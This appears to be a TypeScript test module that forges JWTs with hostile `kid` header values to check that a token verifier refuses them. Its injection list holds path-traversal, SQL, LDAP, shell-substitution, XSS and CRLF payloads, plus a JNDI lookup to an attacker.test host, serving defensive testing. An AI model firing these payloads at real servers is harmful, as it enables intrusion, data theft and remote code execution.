import { isHmac } from '../signing-key.ts'
import type { Forge, ForgedRow } from './forge.ts'

/** Up to the root from any folder that keys are in: above the root is the root. */
const TO_THE_ROOT = '../'.repeat(16)

/** Text meant for whatever a careless server puts a `kid` into, and the secret it would then find. */
const INJECTIONS: readonly (readonly [id: string, name: string, kid: string, secret?: string])[] = [
  ['path', 'a path to an empty file', `${TO_THE_ROOT}dev/null`, ''],
  ['absolute-path', 'an absolute path to an empty file', '/dev/null', ''],
  ['file-url', 'a file URL', 'file:///dev/null', ''],
  [
    'known-file',
    'a path to a file whose content is known',
    `${TO_THE_ROOT}proc/sys/kernel/randomize_va_space`,
    '2\n',
  ],
  [
    'absolute-known-file',
    'an absolute path to a file whose content is known',
    '/proc/sys/kernel/randomize_va_space',
    '2\n',
  ],
  ['sql', 'an SQL union', "x' UNION SELECT 'secret' -- ", 'secret'],
  ['sql-or', 'an SQL condition', "' OR '1'='1"],
  ['nosql', 'a query of a document store as text', '{"$ne":null}'],
  ['ldap', 'an LDAP filter', '*)(uid=*))(|(uid=*'],
  ['shell', 'a shell substitution', '$(sleep 6)'],
  ['shell-pipe', 'a shell pipe', 'x | sleep 6'],
  ['template', 'a template expression', '{{7*7}}${7*7}<%= 7*7 %>'],
  ['lookup', 'a logger lookup', '${jndi:ldap://attacker.test/x}'],
  ['format', 'a format string', '%s%s%s%n'],
  ['crlf', 'a line break and a header', 'x\r\nSet-Cookie: session=stolen'],
  ['quotes', 'quotes that end a quoted string', 'x", error="none'],
  ['markup', 'a script element', '<script>alert(1)</script>'],
  ['terminal', 'a terminal control sequence', '\u001b[2J\u001b[31mx'],
  ['not-latin', 'letters no header can hold', 'ключ'],
  ['proto', 'the prototype by name', '__proto__', '[object Object]'],
  ['constructor', 'a member of the prototype', 'constructor'],
  ['to-string', 'another member of the prototype', 'toString'],
]

const NO_TEXTS: readonly (readonly [id: string, name: string, kid: unknown])[] = [
  ['null', 'null', null],
  ['number', 'a number', 0],
  ['true', 'true', true],
  ['query', 'a query of a document store', { $ne: null }],
  ['empty-list', 'an empty list', []],
]

/** `kid` chosen by the attacker: RFC 8725 §3.10. */
export function forgedKids(forge: Forge): ForgedRow[] {
  const { victim, lure, header, claims, signed } = forge
  const { kid } = victim
  const noTexts: typeof NO_TEXTS = [...NO_TEXTS, ['list', 'a list with the right kid', [kid]]]
  return [
    ...INJECTIONS.map((row) => injectionRow(forge, ...row)),
    injectionRow(forge, 'url', 'a URL', `${lure}/jwks`),
    ...noTexts.map(([id, name, value]): ForgedRow => [
      `kid-${id}`,
      `kid is ${name}`,
      'ERR_HEADER_REFUSED',
      signed(header({ kid: value }), claims()),
    ]),
    [
      'kid-huge',
      'kid of 5,000 characters',
      'ERR_HEADER_REFUSED',
      signed(header({ kid: 'k'.repeat(5_000) }), claims()),
    ],
    ...lookAlikes(forge),
  ]
}

function injectionRow(
  { victim, unknownKid, header, hmacSigned, roguelySigned }: Forge,
  id: string,
  name: string,
  kid: string,
  secret?: string,
): ForgedRow {
  const alg = isHmac(victim.algorithm) ? victim.algorithm : 'HS256'
  const token =
    secret === undefined ? roguelySigned(header({ kid })) : hmacSigned(header({ alg, kid }), secret)
  return [`kid-${id}`, `kid is ${name}`, unknownKid, token]
}

/** Signed by the right key: a key answers to its own kid and to no other. A shared secret has none. */
function lookAlikes({ victim, header, claims, signed }: Forge): ForgedRow[] {
  if (isHmac(victim.algorithm)) return []
  const { kid } = victim
  const rows: (readonly [id: string, name: string, kid: string])[] = [
    ['upper-case', 'in upper case', kid.toUpperCase()],
    ['blank-before', 'behind a blank', ` ${kid}`],
    ['blank-after', 'before a blank', `${kid} `],
    ['nul', 'before a zero byte', `${kid}\0`],
    ['prefix', 'in part', kid.slice(0, -1)],
    ['longer', 'and more', `${kid}x`],
    ['empty', 'as nothing at all', ''],
    ['star', 'as *', '*'],
    ['pattern', 'as a pattern', '.*'],
  ]
  return rows.map(([id, name, lookAlike]) => [
    `kid-${id}`,
    `the right kid ${name}`,
    'ERR_KEY_UNKNOWN',
    signed(header({ kid: lookAlike }), claims()),
  ])
}
